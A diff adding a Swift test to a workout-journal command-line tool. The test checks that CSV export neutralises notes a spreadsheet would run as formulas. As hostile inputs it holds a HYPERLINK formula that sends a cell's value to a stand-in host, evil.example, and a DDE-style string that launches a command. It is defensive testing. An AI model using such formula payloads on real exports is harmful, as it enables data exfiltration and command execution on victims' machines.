@@ -143,6 +143,37 @@ import Testing
         #expect(plusmd(["export", "--format", "xml"], in: journal).status == 2)
     }
 
+    @Test func csvExportNeutralisesNotesASpreadsheetWouldRunAsAFormula() throws {
+        let folder = TemporaryFolder()
+        let journal = try folder.copy(fixture: "examples/journal")
+        let hostile = [
+            "2026/2026-09-01-squat.md": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "2026/2026-09-03-bench.md": "@SUM(1+1)*cmd|' /C calc'!A0",
+        ]
+        for (path, note) in hostile {
+            let text = try String(contentsOfFile: journal + "/" + path, encoding: .utf8)
+            let notes = try #require(text.range(of: "## Notes\n\n"))
+            try (String(text[..<notes.upperBound]) + note + "\n").write(toFile: journal + "/" + path, atomically: false, encoding: .utf8)
+        }
+        let csv = plusmd(["export", "--format", "csv", "-o", "-"], in: journal)
+        #expect(csv.status == 0, "\(csv.err)")
+        let rows = csv.out.components(separatedBy: "\r\n")
+        #expect(rows.contains { $0.hasPrefix("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") }, "\(rows.prefix(12))")
+        #expect(rows.contains { $0.hasSuffix(",lb,'@SUM(1+1)*cmd|' /C calc'!A0") })
+        for row in rows.dropFirst() where !row.isEmpty {
+            let cells = row.split(separator: ",", omittingEmptySubsequences: false)
+            #expect(!"=+-@".contains(cells.last?.first ?? "x"), "no cell starts a formula: \(row)")
+            #expect(Double(cells[2]) != nil && Double(cells[6]) != nil, "numbers stay numbers: \(row)")
+        }
+        #expect(ExportCSV.neutralised("+1 rep next time") == "'+1 rep next time")
+        #expect(ExportCSV.neutralised("-5 lb, back off") == "'-5 lb, back off")
+        #expect(ExportCSV.neutralised("\tcmd") == "'\tcmd")
+        #expect(ExportCSV.neutralised("\r\n=1+1") == "'\r\n=1+1")
+        #expect(ExportCSV.neutralised("Depth felt good; 5+ reps") == "Depth felt good; 5+ reps")
+        let json = plusmd(["export", "--format", "json", "-o", "-"], in: journal)
+        #expect(json.out.contains("\"=HYPERLINK(\\\"http:\\/\\/evil.example\\/?\\\"&A1,\\\"click\\\")\"") || json.out.contains("\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\""), "the JSON export keeps the raw note")
+    }
+
     @Test func configShowsEverySettingAndSetsOneKeepingTheLayout() throws {
         let folder = TemporaryFolder()
         _ = plusmd(initArguments, in: folder.path)
